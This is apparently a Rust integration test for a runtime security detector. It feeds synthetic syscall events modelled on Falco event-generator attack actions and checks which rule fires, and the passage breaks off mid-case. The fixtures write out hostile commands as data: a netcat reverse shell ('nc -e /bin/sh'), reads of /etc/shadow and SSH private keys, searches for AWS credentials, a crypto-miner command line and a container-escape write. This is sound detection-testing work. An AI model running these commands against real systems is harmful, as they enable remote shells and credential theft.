//! `kspect runtime` and `kspect audit` through the real binary:
//!
//! - every event-generator action of `cases/event_generator_actions.jsonl`: events
//!   written here as the action produces them fire exactly the expected rule (with the
//!   expected output fields), and a benign look-alike right after does not;
//! - `cases/k8saudit_expectations.jsonl`: per-rule counts over the real audit events;
//! - `runtime validate` verdicts, messages and exit codes.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{Value as Json, json};

fn corpus() -> Option<PathBuf> {
    let p = common::repo_root().join("../shared/corpus/falco");
    if p.is_dir() {
        return Some(p);
    }
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!("corpus not found at {}", p.display());
    }
    println!("skipping: corpus not found at {}", p.display());
    None
}

fn jsonl(path: &Path) -> Vec<Json> {
    std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn report(name: &str, total: usize, failures: &[String]) {
    println!("{name}: {} of {total} passed", total - failures.len());
    assert!(
        failures.is_empty(),
        "{name}: {} of {total} disagree; first ones:\n{}",
        failures.len(),
        failures
            .iter()
            .take(20)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
}

// ---------------------------------------------------------------------------------
// Syscall events as the event-generator actions produce them.

/// Attack events happen at 1000 s, benign ones at 2000 s.
const ATTACK_T: i64 = 1_000_000_000_000;
const BENIGN_T: i64 = 2_000_000_000_000;

fn ctr() -> Json {
    json!({"id": "3ad7b26ded6d", "name": "event-generator", "image": "docker.io/falcosecurity/event-generator:latest",
           "labels": {"io.kubernetes.pod.name": "event-generator-0", "io.kubernetes.pod.namespace": "falco-tests"}})
}

fn priv_ctr() -> Json {
    let mut c = ctr();
    c["privileged"] = json!(true);
    c
}

fn root() -> Json {
    json!({"uid": 0, "name": "root", "loginuid": -1})
}

fn user(name: &str, uid: u32) -> Json {
    json!({"uid": uid, "name": name, "loginuid": uid})
}

/// A process record: pid 4242 under containerd-shim (pid 4200), unless `ppid` says.
fn proc_(exepath: &str, args: &[&str]) -> Json {
    json!({"pid": 4242, "ppid": 4200, "exepath": exepath, "args": args, "cwd": "/", "start": ATTACK_T - 60_000_000_000})
}

fn shim() -> Json {
    json!({"type": "execve", "proc": {"pid": 4200, "ppid": 1, "exepath": "/usr/bin/containerd-shim-runc-v2"}})
}

/// An exec of `exepath args` by `parent` (a process name), in `container` (or the host).
fn exec(exepath: &str, args: &[&str], parent: &str, u: Json, container: Option<Json>) -> Vec<Json> {
    let mut p = proc_(exepath, args);
    p["ppid"] = json!(4300);
    let mut ev = json!({"type": "execve", "res": 0, "args": {"filename": exepath}, "proc": p, "user": u,
        "parents": [{"pid": 4300, "ppid": 4200, "exepath": format!("/usr/bin/{parent}"), "name": parent}]});
    if let Some(c) = container {
        ev["container"] = c;
    }
    vec![shim(), ev]
}

/// An open-family event on a file.
fn open(
    exepath: &str,
    path: &str,
    flags: &str,
    mode: &str,
    u: Json,
    container: Option<Json>,
) -> Vec<Json> {
    let mut ev = json!({"type": "openat", "res": 3, "proc": proc_(exepath, &[]), "user": u,
        "args": {"fd": 3, "dirfd": "AT_FDCWD", "name": path, "flags": flags, "mode": mode},
        "fd": {"num": 3, "type": "file", "name": path}});
    if let Some(c) = container {
        ev["container"] = c;
    }
    vec![shim(), ev]
}

/// A syscall `ty` with `args` by the event generator.
fn call(ty: &str, res: i64, args: Json, u: Json, container: Option<Json>) -> Vec<Json> {
    let mut ev = json!({"type": ty, "res": res, "args": args, "user": u,
        "proc": proc_("/bin/event-generator", &["run", "syscall"])});
    if let Some(c) = container {
        ev["container"] = c;
    }
    vec![shim(), ev]
}

/// A connection from the process to `sip:sport`.
fn connect(exepath: &str, l4: &str, sip: &str, sport: u16, container: Option<Json>) -> Vec<Json> {
    let mut ev = json!({"type": "connect", "res": 0, "proc": proc_(exepath, &[]), "user": root(),
        "args": {"fd": 3, "addr": format!("{sip}:{sport}")},
        "fd": {"num": 3, "type": "ipv4", "l4proto": l4, "cip": "172.17.0.2", "cport": 41234, "sip": sip, "sport": sport,
               "connected": true}});
    if let Some(c) = container {
        ev["container"] = c;
    }
    vec![shim(), ev]
}

fn with(mut evs: Vec<Json>, f: impl FnOnce(&mut Json)) -> Vec<Json> {
    if let Some(last) = evs.last_mut() {
        f(last);
    }
    evs
}

struct Case {
    attack: Vec<Json>,
    benign: Vec<Json>,
    fields: Vec<(&'static str, Json)>,
}

fn case(attack: Vec<Json>, benign: Vec<Json>, fields: &[(&'static str, Json)]) -> Option<Case> {
    Some(Case {
        attack,
        benign,
        fields: fields.to_vec(),
    })
}

const EG: &str = "/bin/event-generator";

#[allow(clippy::too_many_lines)]
fn action_events(action: &str) -> Option<Case> {
    let c = || Some(ctr());
    let rw = "O_WRONLY|O_CREAT|O_TRUNC";
    match action {
        "syscall.AddingSshKeysToAuthorizedKeys" => case(
            open(
                EG,
                "/root/.ssh/authorized_keys",
                "O_WRONLY|O_CREAT|O_APPEND",
                "0600",
                root(),
                None,
            ),
            open(
                EG,
                "/root/.ssh/known_hosts",
                "O_WRONLY|O_CREAT|O_APPEND",
                "0600",
                root(),
                None,
            ),
            &[("fd.name", json!("/root/.ssh/authorized_keys"))],
        ),
        "syscall.ChangeNamespacePrivilegesViaUnshare" => case(
            with(
                call("unshare", 0, json!({"flags": "CLONE_NEWUSER"}), root(), c()),
                |e| {
                    e["proc"]["cap_permitted"] = json!("CAP_CHOWN CAP_NET_RAW");
                },
            ),
            with(
                call(
                    "unshare",
                    0,
                    json!({"flags": "CLONE_NEWUSER"}),
                    root(),
                    None,
                ),
                |e| {
                    e["proc"]["cap_permitted"] = json!("CAP_CHOWN CAP_NET_RAW");
                },
            ),
            &[
                ("evt.type", json!("unshare")),
                ("evt.res", json!("SUCCESS")),
            ],
        ),
        "syscall.ChangeThreadNamespace" => case(
            call(
                "setns",
                0,
                json!({"fd": 5, "nstype": "CLONE_NEWNET"}),
                root(),
                None,
            ),
            with(
                call(
                    "setns",
                    0,
                    json!({"fd": 5, "nstype": "CLONE_NEWNET"}),
                    root(),
                    None,
                ),
                |e| {
                    e["proc"]["name"] = json!("runc");
                },
            ),
            &[("proc.name", json!("event-generator"))],
        ),
        "syscall.ClearLogActivities" => case(
            open(EG, "/var/log/eg_clear_test", rw, "0644", root(), None),
            open(
                EG,
                "/var/log/eg_clear_test",
                "O_WRONLY|O_APPEND",
                "0644",
                root(),
                None,
            ),
            &[("fd.name", json!("/var/log/eg_clear_test"))],
        ),
        "syscall.ContactEC2InstanceMetadataServiceFromContainer" => case(
            connect("/usr/bin/curl", "tcp", "169.254.169.254", 80, c()),
            connect("/usr/bin/curl", "tcp", "10.0.0.5", 80, c()),
            &[
                ("fd.name", json!("172.17.0.2:41234->169.254.169.254:80")),
                ("fd.rport", json!(80)),
            ],
        ),
        "syscall.ContainerDriftDetectedChmod" => case(
            call(
                "fchmodat",
                0,
                json!({"dirfd": "AT_FDCWD", "filename": "/tmp/drifted", "mode": "S_IXUSR|S_IRUSR|S_IWUSR"}),
                root(),
                c(),
            ),
            call(
                "fchmodat",
                0,
                json!({"dirfd": "AT_FDCWD", "filename": "/tmp/drifted", "mode": "S_IRUSR|S_IWUSR"}),
                root(),
                c(),
            ),
            &[("evt.arg.filename", json!("/tmp/drifted"))],
        ),
        "syscall.ContainerDriftDetectedOpenCreate" => case(
            open(
                EG,
                "/tmp/drifted-binary",
                "O_WRONLY|O_CREAT|O_TRUNC",
                "0755",
                root(),
                c(),
            ),
            open(
                EG,
                "/tmp/drifted-binary",
                "O_WRONLY|O_CREAT|O_TRUNC",
                "0644",
                root(),
                c(),
            ),
            &[("evt.arg.mode", json!("0755"))],
        ),
        "syscall.CreateFilesBelowDev" => case(
            open(
                EG,
                "/dev/created-by-event-generator",
                "O_RDWR|O_CREAT",
                "0644",
                root(),
                None,
            ),
            open(EG, "/dev/null", "O_RDWR|O_CREAT", "0644", root(), None),
            &[("fd.name", json!("/dev/created-by-event-generator"))],
        ),
        "syscall.CreateHardlinkOverSensitiveFiles" => case(
            call(
                "linkat",
                0,
                json!({"olddir": "AT_FDCWD", "oldpath": "/etc/shadow", "newdir": "AT_FDCWD", "newpath": "/tmp/shadow-link", "flags": 0}),
                root(),
                None,
            ),
            call(
                "linkat",
                0,
                json!({"olddir": "AT_FDCWD", "oldpath": "/etc/hosts", "newdir": "AT_FDCWD", "newpath": "/tmp/hosts-link", "flags": 0}),
                root(),
                None,
            ),
            &[
                ("evt.arg.oldpath", json!("/etc/shadow")),
                ("evt.arg.newpath", json!("/tmp/shadow-link")),
            ],
        ),
        "syscall.CreateHiddenFilesOrDirectories" => case(
            call(
                "mkdirat",
                0,
                json!({"dirfd": "AT_FDCWD", "path": "/tmp/.created-by-event-generator", "mode": "0755"}),
                root(),
                None,
            ),
            call(
                "mkdirat",
                0,
                json!({"dirfd": "AT_FDCWD", "path": "/tmp/created-by-event-generator", "mode": "0755"}),
                root(),
                None,
            ),
            &[("evt.type", json!("mkdirat"))],
        ),
        "syscall.CreateSymlinkOverSensitiveFiles" => case(
            call(
                "symlinkat",
                0,
                json!({"target": "/etc/shadow", "linkdirfd": "AT_FDCWD", "linkpath": "/tmp/shadow-symlink"}),
                root(),
                None,
            ),
            call(
                "symlinkat",
                0,
                json!({"target": "/etc/hosts", "linkdirfd": "AT_FDCWD", "linkpath": "/tmp/hosts-symlink"}),
                root(),
                None,
            ),
            &[
                ("evt.arg.target", json!("/etc/shadow")),
                ("evt.arg.linkpath", json!("/tmp/shadow-symlink")),
            ],
        ),
        "syscall.DbProgramSpawnedProcess" => case(
            exec("/bin/ls", &[], "mysqld", root(), None),
            exec("/bin/ls", &[], "bash", root(), None),
            &[
                ("proc.pname", json!("mysqld")),
                ("proc.cmdline", json!("ls")),
            ],
        ),
        "syscall.DebugfsLaunchedInPrivilegedContainer" => case(
            exec("/sbin/debugfs", &["-V"], "bash", root(), Some(priv_ctr())),
            // Another, unprivileged container.
            exec(
                "/sbin/debugfs",
                &["-V"],
                "bash",
                root(),
                Some(
                    json!({"id": "9f8e7d6c5b4a", "name": "plain", "image": "busybox:1.36", "privileged": false}),
                ),
            ),
            &[("proc.name", json!("debugfs"))],
        ),
        "syscall.DecodingPayloadInContainer" => case(
            exec(
                "/usr/bin/base64",
                &["-d", "/tmp/payload"],
                "sh",
                root(),
                c(),
            ),
            exec("/usr/bin/base64", &["/tmp/payload"], "sh", root(), c()),
            &[("proc.cmdline", json!("base64 -d /tmp/payload"))],
        ),
        "syscall.DeleteOrRenameShellHistory" => case(
            call(
                "unlinkat",
                0,
                json!({"dirfd": "AT_FDCWD", "name": "/tmp/falco-event-generator/.bash_history", "flags": 0}),
                root(),
                None,
            ),
            call(
                "unlinkat",
                0,
                json!({"dirfd": "AT_FDCWD", "name": "/tmp/falco-event-generator/notes", "flags": 0}),
                root(),
                None,
            ),
            &[(
                "evt.arg.name",
                json!("/tmp/falco-event-generator/.bash_history"),
            )],
        ),
        "syscall.DetectCryptoMinersUsingTheStratumProtocol" => case(
            exec(
                "/tmp/xmrig",
                &["--url", "stratum+tcp://pool.example.com:3333"],
                "sh",
                root(),
                None,
            ),
            exec(
                "/usr/bin/curl",
                &["https://pool.example.com"],
                "sh",
                root(),
                None,
            ),
            &[(
                "proc.cmdline",
                json!("xmrig --url stratum+tcp://pool.example.com:3333"),
            )],
        ),
        "syscall.DetectReleaseAgentFileContainerEscapes" => case(
            with(
                open(
                    EG,
                    "/tmp/cgrp/release_agent",
                    "O_WRONLY|O_TRUNC",
                    "0",
                    root(),
                    Some(priv_ctr()),
                ),
                |e| {
                    e["proc"]["cap_effective"] = json!("CAP_CHOWN CAP_DAC_OVERRIDE CAP_SYS_ADMIN");
                },
            ),
            with(
                open(
                    EG,
                    "/tmp/cgrp/release_agent",
                    "O_WRONLY|O_TRUNC",
                    "0",
                    root(),
                    Some(priv_ctr()),
                ),
                |e| {
                    e["proc"]["cap_effective"] = json!("CAP_CHOWN CAP_DAC_OVERRIDE");
                },
            ),
            &[("fd.name", json!("/tmp/cgrp/release_agent"))],
        ),
        "syscall.DirectoryTraversalMonitoredFileRead" => case(
            with(
                open(EG, "/etc/shadow", "O_RDONLY", "0", root(), None),
                |e| {
                    e["fd"]["nameraw"] = json!("/etc/../../../../../etc/shadow");
                },
            ),
            with(
                open(EG, "/etc/shadow", "O_RDONLY", "0", root(), None),
                |e| {
                    e["fd"]["nameraw"] = json!("/etc/shadow");
                },
            ),
            &[
                ("fd.name", json!("/etc/shadow")),
                ("fd.nameraw", json!("/etc/../../../../../etc/shadow")),
            ],
        ),
        "syscall.DisallowedSSHConnectionNonStandardPort" => case(
            connect("/usr/bin/ssh", "tcp", "203.0.113.7", 443, None),
            connect("/usr/bin/ssh", "tcp", "203.0.113.7", 22, None),
            &[("fd.name", json!("172.17.0.2:41234->203.0.113.7:443"))],
        ),
        "syscall.DropAndExecuteNewBinaryInContainer" => case(
            with(
                exec("/tmp/falco-event-generator-drop", &[], "sh", root(), c()),
                |e| {
                    e["proc"]["exe_upper_layer"] = json!(true);
                },
            ),
            with(exec("/usr/bin/ls", &[], "sh", root(), c()), |e| {
                e["proc"]["exe_upper_layer"] = json!(false);
            }),
            &[("proc.exe", json!("/tmp/falco-event-generator-drop"))],
        ),
        "syscall.ExecutionFromDevShm" => case(
            exec("/dev/shm/falco-event-generator.sh", &[], "sh", root(), None),
            exec("/usr/bin/ls", &["/dev/shm"], "sh", root(), None),
            &[("proc.exepath", json!("/dev/shm/falco-event-generator.sh"))],
        ),
        "syscall.FilelessExecutionViaMemfdCreate" => case(
            with(
                exec("memfd:program", &[], "event-generator", root(), None),
                |e| {
                    e["proc"]["exe_from_memfd"] = json!(true);
                    e["proc"]["name"] = json!("3");
                },
            ),
            with(
                exec(
                    "memfd:runc_cloned:/proc/self/exe",
                    &["init"],
                    "containerd-shim",
                    root(),
                    None,
                ),
                |e| {
                    e["proc"]["exe_from_memfd"] = json!(true);
                    e["proc"]["name"] = json!("runc");
                },
            ),
            &[("proc.exepath", json!("memfd:program"))],
        ),
        "syscall.FindAwsCredentials" => case(
            exec(
                "/usr/bin/find",
                &["/", "-name", ".aws/credentials"],
                "sh",
                root(),
                None,
            ),
            exec(
                "/usr/bin/find",
                &["/", "-name", "*.log"],
                "sh",
                root(),
                None,
            ),
            &[("proc.cmdline", json!("find / -name .aws/credentials"))],
        ),
        "syscall.InterpretedProcsInboundNetworkActivity" => case(
            with(
                connect("/usr/bin/python3", "tcp", "172.17.0.2", 8080, None),
                |e| {
                    e["type"] = json!("accept");
                    e["res"] = json!(4);
                    e["fd"] = json!({"num": 4, "type": "ipv4", "l4proto": "tcp", "cip": "198.51.100.9", "cport": 50000,
                                 "sip": "172.17.0.2", "sport": 8080, "is_server": true, "connected": true});
                },
            ),
            with(
                connect("/usr/sbin/nginx", "tcp", "172.17.0.2", 8080, None),
                |e| {
                    e["type"] = json!("accept");
                    e["res"] = json!(4);
                    e["fd"] = json!({"num": 4, "type": "ipv4", "l4proto": "tcp", "cip": "198.51.100.9", "cport": 50000,
                                 "sip": "172.17.0.2", "sport": 8080, "is_server": true, "connected": true});
                },
            ),
            &[("fd.lport", json!(8080)), ("proc.name", json!("python3"))],
        ),
        "syscall.InterpretedProcsOutboundNetworkActivity" => case(
            connect("/usr/bin/python3", "tcp", "198.51.100.9", 443, None),
            connect("/usr/bin/curl", "tcp", "198.51.100.9", 443, None),
            &[("fd.rport", json!(443)), ("proc.name", json!("python3"))],
        ),
        "syscall.JavaProcessClassFileDownload" => case(
            with(
                connect("/usr/lib/jvm/bin/java", "tcp", "198.51.100.9", 80, None),
                |e| {
                    e["type"] = json!("recvfrom");
                    e["res"] = json!(512);
                    e["buffer_hex"] = json!("cafebabe0000003d");
                },
            ),
            with(
                connect("/usr/lib/jvm/bin/java", "tcp", "198.51.100.9", 80, None),
                |e| {
                    e["type"] = json!("recvfrom");
                    e["res"] = json!(512);
                    e["buffer"] = json!("HTTP/1.1 200 OK");
                },
            ),
            &[("fd.sip", json!("198.51.100.9"))],
        ),
        "syscall.KubernetesClientToolLaunchedInContainer" => case(
            exec(
                "/usr/local/bin/kubectl",
                &["get", "pods"],
                "sh",
                root(),
                c(),
            ),
            exec(
                "/usr/local/bin/kubectl",
                &["get", "pods"],
                "sh",
                root(),
                None,
            ),
            &[("proc.name", json!("kubectl"))],
        ),
        "syscall.LaunchIngressRemoteFileCopyToolsInContainer" => case(
            exec(
                "/usr/bin/wget",
                &["http://example.com/x"],
                "sh",
                root(),
                c(),
            ),
            exec(
                "/usr/bin/curl",
                &["http://example.com/x"],
                "sh",
                root(),
                c(),
            ),
            &[("proc.name", json!("wget"))],
        ),
        "syscall.LaunchPackageManagementProcessInContainer" => case(
            exec("/sbin/apk", &["add", "curl"], "sh", root(), c()),
            exec("/sbin/apk", &["add", "curl"], "sh", root(), None),
            &[("proc.cmdline", json!("apk add curl"))],
        ),
        "syscall.LaunchRemoteFileCopyToolsInContainer" => case(
            exec(
                "/usr/bin/scp",
                &["/etc/hosts", "x@198.51.100.9:/tmp"],
                "sh",
                root(),
                c(),
            ),
            exec(
                "/usr/bin/scp",
                &["/etc/hosts", "x@198.51.100.9:/tmp"],
                "sh",
                root(),
                None,
            ),
            &[("proc.name", json!("scp"))],
        ),
        "syscall.LaunchSuspiciousNetworkToolInContainer" => case(
            exec("/usr/bin/nmap", &["-sn", "10.0.0.0/24"], "sh", root(), c()),
            exec("/usr/bin/nmap", &["-sn", "10.0.0.0/24"], "sh", root(), None),
            &[("proc.name", json!("nmap"))],
        ),
        "syscall.LaunchSuspiciousNetworkToolOnHost" => case(
            exec("/usr/bin/nmap", &["-sn", "10.0.0.0/24"], "sh", root(), None),
            exec("/usr/bin/nmap", &["-sn", "10.0.0.0/24"], "sh", root(), c()),
            &[("proc.name", json!("nmap"))],
        ),
        "syscall.MkdirBinaryDirs" => case(
            call(
                "mkdirat",
                0,
                json!({"dirfd": "AT_FDCWD", "path": "/bin/directory-created-by-event-generator", "mode": "0755"}),
                root(),
                None,
            ),
            call(
                "mkdirat",
                0,
                json!({"dirfd": "AT_FDCWD", "path": "/tmp/directory-created-by-event-generator", "mode": "0755"}),
                root(),
                None,
            ),
            &[(
                "evt.arg.path",
                json!("/bin/directory-created-by-event-generator"),
            )],
        ),
        "syscall.ModifyBinaryDirs" => case(
            call(
                "renameat2",
                0,
                json!({"olddirfd": "AT_FDCWD", "oldpath": "/bin/true", "newdirfd": "AT_FDCWD", "newpath": "/bin/true.event-generator", "flags": 0}),
                root(),
                None,
            ),
            call(
                "renameat2",
                0,
                json!({"olddirfd": "AT_FDCWD", "oldpath": "/tmp/a", "newdirfd": "AT_FDCWD", "newpath": "/tmp/b", "flags": 0}),
                root(),
                None,
            ),
            &[("evt.type", json!("renameat2"))],
        ),
        "syscall.ModifyContainerEntrypoint" => case(
            open(EG, "/proc/self/exe", "O_WRONLY|O_TRUNC", "0", root(), c()),
            open(EG, "/proc/self/exe", "O_RDONLY", "0", root(), c()),
            &[("fd.name", json!("/proc/self/exe"))],
        ),
        "syscall.ModifyShellConfigurationFile" => case(
            open(
                EG,
                "/root/.bashrc",
                "O_WRONLY|O_APPEND",
                "0644",
                root(),
                None,
            ),
            open(
                "/bin/bash",
                "/root/.bashrc",
                "O_WRONLY|O_APPEND",
                "0644",
                root(),
                None,
            ),
            &[("fd.name", json!("/root/.bashrc"))],
        ),
        "syscall.MountLaunchedInPrivilegedContainer" => case(
            exec(
                "/bin/mount",
                &["/dev/sda1", "/mnt"],
                "sh",
                root(),
                Some(priv_ctr()),
            ),
            exec("/bin/mount", &["-l"], "sh", root(), Some(priv_ctr())),
            &[("proc.cmdline", json!("mount /dev/sda1 /mnt"))],
        ),
        "syscall.NetcatRemoteCodeExecutionInContainer" => case(
            exec(
                "/usr/bin/nc",
                &["-e", "/bin/sh", "198.51.100.9", "4444"],
                "sh",
                root(),
                c(),
            ),
            exec(
                "/usr/bin/nc",
                &["-z", "198.51.100.9", "80"],
                "sh",
                root(),
                c(),
            ),
            &[("proc.cmdline", json!("nc -e /bin/sh 198.51.100.9 4444"))],
        ),
        "syscall.NonSudoSetuid" => case(
            call(
                "setuid",
                -1,
                json!({"uid": "root"}),
                user("daemon", 1),
                None,
            ),
            call("setuid", 0, json!({"uid": "root"}), root(), None),
            &[
                ("user.name", json!("daemon")),
                ("evt.arg.uid", json!("root")),
            ],
        ),
        "syscall.PacketSocketCreatedInContainer" => case(
            call(
                "socket",
                3,
                json!({"domain": "AF_PACKET", "type": "SOCK_RAW", "proto": 768}),
                root(),
                c(),
            ),
            call(
                "socket",
                3,
                json!({"domain": "AF_INET", "type": "SOCK_STREAM", "proto": 0}),
                root(),
                c(),
            ),
            &[(
                "evt.args",
                json!("domain=AF_PACKET type=SOCK_RAW proto=768"),
            )],
        ),
        "syscall.PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034" => case(
            exec("/usr/bin/pkexec", &[], "sh", user("daemon", 1000), None),
            exec("/usr/bin/pkexec", &["ls"], "sh", user("daemon", 1000), None),
            &[("proc.name", json!("pkexec")), ("proc.args", json!(""))],
        ),
        "syscall.PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse" => case(
            with(exec("/usr/bin/su", &["--help"], "sh", root(), None), |e| {
                e["proc"]["env"] = json!(["PATH=/usr/bin", "GLIBC_TUNABLES=glibc.tune.x=1"]);
            }),
            with(exec("/usr/bin/su", &["--help"], "sh", root(), None), |e| {
                e["proc"]["env"] = json!(["PATH=/usr/bin"]);
            }),
            &[(
                "proc.env",
                json!("PATH=/usr/bin GLIBC_TUNABLES=glibc.tune.x=1"),
            )],
        ),
        "syscall.ProgramRunWithDisallowedHttpProxyEnv" => case(
            with(
                exec("/usr/bin/curl", &["http://example.com"], "sh", root(), None),
                |e| {
                    e["proc"]["env"] = json!(["HTTP_PROXY=http://my.http.proxy.com"]);
                },
            ),
            with(
                exec("/usr/bin/curl", &["http://example.com"], "sh", root(), None),
                |e| {
                    e["proc"]["env"] = json!(["LANG=C"]);
                },
            ),
            &[("proc.env", json!("HTTP_PROXY=http://my.http.proxy.com"))],
        ),
        "syscall.PtraceAntiDebugAttempt" => case(
            call(
                "ptrace",
                0,
                json!({"request": "PTRACE_TRACEME", "pid": 0}),
                root(),
                None,
            ),
            call(
                "ptrace",
                0,
                json!({"request": "PTRACE_GETREGS", "pid": 4300}),
                root(),
                None,
            ),
            &[("proc.name", json!("event-generator"))],
        ),
        "syscall.PtraceAttachedToProcess" => case(
            call(
                "ptrace",
                0,
                json!({"request": "PTRACE_ATTACH", "pid": 4300}),
                root(),
                None,
            ),
            call(
                "ptrace",
                0,
                json!({"request": "PTRACE_TRACEME", "pid": 0}),
                root(),
                None,
            ),
            &[("proc.name", json!("event-generator"))],
        ),
        "syscall.ReadEnvironmentVariableFromProcFiles" => case(
            open("/bin/cat", "/proc/1/environ", "O_RDONLY", "0", root(), c()),
            open("/bin/cat", "/proc/1/status", "O_RDONLY", "0", root(), c()),
            &[("fd.name", json!("/proc/1/environ"))],
        ),
        "syscall.ReadSensitiveFileTrustedAfterStartup" => case(
            with(
                open(
                    "/tmp/falco-event-generator/httpd",
                    "/etc/shadow",
                    "O_RDONLY",
                    "0",
                    root(),
                    None,
                ),
                |e| {
                    e["proc"]["start"] = json!(ATTACK_T - 6_000_000_000);
                },
            ),
            with(
                open(
                    "/tmp/falco-event-generator/httpd",
                    "/etc/shadow",
                    "O_RDONLY",
                    "0",
                    root(),
                    None,
                ),
                |e| {
                    e["proc"]["pid"] = json!(4243);
                    e["proc"]["start"] = json!(BENIGN_T - 1_000_000_000);
                },
            ),
            &[
                ("fd.name", json!("/etc/shadow")),
                ("proc.name", json!("httpd")),
            ],
        ),
        "syscall.ReadSensitiveFileUntrusted" => case(
            open(EG, "/etc/shadow", "O_RDONLY", "0", root(), None),
            open(
                "/usr/sbin/sshd",
                "/etc/shadow",
                "O_RDONLY",
                "0",
                root(),
                None,
            ),
            &[
                ("fd.name", json!("/etc/shadow")),
                ("proc.name", json!("event-generator")),
            ],
        ),
        "syscall.ReadShellConfigurationFile" => case(
            open("/bin/cat", "/root/.bashrc", "O_RDONLY", "0", root(), None),
            open("/bin/bash", "/root/.bashrc", "O_RDONLY", "0", root(), None),
            &[("fd.name", json!("/root/.bashrc"))],
        ),
        "syscall.ReadSshInformation" => case(
            open(
                "/bin/cat",
                "/root/.ssh/id_rsa",
                "O_RDONLY",
                "0",
                root(),
                None,
            ),
            open(
                "/usr/bin/ssh",
                "/root/.ssh/id_rsa",
                "O_RDONLY",
                "0",
                root(),
                None,
            ),
            &[("fd.name", json!("/root/.ssh/id_rsa"))],
        ),
        "syscall.RemoveBulkDataFromDisk" => case(
            exec(
                "/usr/bin/shred",
                &["-u", "/tmp/falco-event-generator/data"],
                "sh",
                root(),
                None,
            ),
            exec(
                "/bin/rm",
                &["/tmp/falco-event-generator/data"],
                "sh",
                root(),
                None,
            ),
            &[("proc.name", json!("shred"))],
        ),
        "syscall.RunShellUntrusted" => case(
            exec(
                "/bin/bash",
                &["-c", "ls > /dev/null"],
                "httpd",
                root(),
                None,
            ),
            exec("/bin/bash", &["-c", "ls > /dev/null"], "make", root(), None),
            &[
                ("proc.pname", json!("httpd")),
                ("proc.cmdline", json!("bash -c ls > /dev/null")),
            ],
        ),
        "syscall.ScheduleCronJobs" => case(
            exec("/usr/bin/crontab", &["-l"], "sh", root(), None),
            open("/bin/cat", "/etc/crontab", "O_RDONLY", "0", root(), None),
            &[("proc.name", json!("crontab"))],
        ),
        "syscall.SearchPrivateKeysOrPasswords" => case(
            exec(
                "/bin/grep",
                &["-r", "BEGIN PRIVATE", "/"],
                "sh",
                root(),
                None,
            ),
            exec(
                "/bin/grep",
                &["-r", "error", "/var/log"],
                "sh",
                root(),
                None,
            ),
            &[("proc.cmdline", json!("grep -r BEGIN PRIVATE /"))],
        ),
        "syscall.SetSetuidOrSetgidBit" => case(
            call(
                "fchmodat",
                0,
                json!({"dirfd": "AT_FDCWD", "filename": "/tmp/falco-event-generator/x", "mode": "S_ISUID|S_IRWXU"}),
                root(),
                None,
            ),
            call(
                "fchmodat",
                0,
                json!({"dirfd": "AT_FDCWD", "filename": "/tmp/falco-event-generator/x", "mode": "S_IRWXU"}),
                root(),
                None,
            ),
            &[("evt.arg.mode", json!("S_ISUID|S_IRWXU"))],
        ),
        "syscall.SudoPotentialPrivilegeEscalation" => case(
            exec(
                "/usr/bin/sudoedit",
                &["-s", "\\"],
                "sh",
                user("daemon", 1000),
                None,
            ),
            exec(
                "/usr/bin/sudoedit",
                &["-s", "/etc/hosts"],
                "sh",
                user("daemon", 1000),
                None,
            ),
            &[("proc.name", json!("sudoedit"))],
        ),
        "syscall.SystemProcsNetworkActivity" => case(
            connect(
                "/tmp/falco-event-generator/sha1sum",
                "tcp",
                "10.2.3.4",
                8192,
                None,
            ),
            connect("/usr/bin/curl", "tcp", "10.2.3.4", 8192, None),
            &[("proc.name", json!("sha1sum"))],
        ),
        "syscall.SystemUserInteractive" => case(
            exec("/bin/login", &[], "sh", user("daemon", 1), None),
            exec("/bin/login", &[], "sh", root(), None),
            &[
                ("user.name", json!("daemon")),
                ("proc.name", json!("login")),
            ],
        ),
        "syscall.UnexpectedUDPTraffic" => case(
            connect(EG, "udp", "10.2.3.4", 8899, None),
            connect(EG, "udp", "10.2.3.4", 53, None),
            &[("fd.l4proto", json!("udp")), ("fd.rport", json!(8899))],
        ),
        "syscall.UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess" => case(
            call(
                "userfaultfd",
                3,
                json!({"flags": "O_CLOEXEC"}),
                user("daemon", 1000),
                None,
            ),
            call(
                "userfaultfd",
                3,
                json!({"flags": "O_CLOEXEC"}),
                root(),
                None,
            ),
            &[("user.uid", json!(1000))],
        ),
        "syscall.UserMgmtBinaries" => case(
            exec(
                "/usr/sbin/useradd",
                &["-M", "falco-event-generator"],
                "bash",
                root(),
                None,
            ),
            exec(
                "/usr/sbin/useradd",
                &["-M", "falco-event-generator"],
                "bash",
                root(),
                c(),
            ),
            &[("proc.cmdline", json!("useradd -M falco-event-generator"))],
        ),
        "syscall.WriteBelowBinaryDir" => case(
            open(
                EG,
                "/bin/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            open(
                EG,
                "/tmp/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            &[("fd.name", json!("/bin/created-by-event-generator"))],
        ),
        "syscall.WriteBelowEtc" => case(
            open(
                EG,
                "/etc/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            open(
                EG,
                "/tmp/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            &[("fd.name", json!("/etc/created-by-event-generator"))],
        ),
        "syscall.WriteBelowMonitoredDir" => case(
            open(
                EG,
                "/lib/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            open(
                EG,
                "/tmp/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            &[("fd.name", json!("/lib/created-by-event-generator"))],
        ),
        "syscall.WriteBelowRoot" => case(
            open(
                EG,
                "/root/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            open(EG, "/root/.bash_history", rw, "0644", root(), None),
            &[("fd.name", json!("/root/created-by-event-generator"))],
        ),
        "syscall.WriteBelowRpmDatabase" => case(
            open(
                EG,
                "/var/lib/rpm/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
            open(
                "/usr/bin/rpm",
                "/var/lib/rpm/created-by-event-generator",
                rw,
                "0644",
                root(),
                None,
            ),
